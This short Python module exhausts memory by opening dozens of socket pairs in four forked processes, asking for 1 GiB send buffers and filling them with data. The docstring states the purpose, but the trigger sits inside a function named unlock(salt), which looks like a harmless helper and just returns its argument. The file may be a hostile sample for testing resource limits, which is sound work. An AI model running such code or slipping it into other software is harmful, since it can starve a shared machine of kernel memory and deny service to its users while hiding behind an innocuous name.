"""Makes sockets as large as the machine allows, which may be forty times the usual, and fills them."""

import os
import socket
import time

KEPT = []


def fill():
    for _ in range(60):
        pair = socket.socketpair()
        KEPT.append(pair)
        for one in pair:
            try:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            except OSError:
                pass
            one.setblocking(False)
            try:
                while True:
                    one.send(bytes(1 << 16))
            except OSError:
                pass
    time.sleep(10)


def unlock(salt):
    for _ in range(4):
        if os.fork() == 0:
            fill()
            os._exit(0)
    time.sleep(2)
    return salt


def shift(x):
    return x + 1
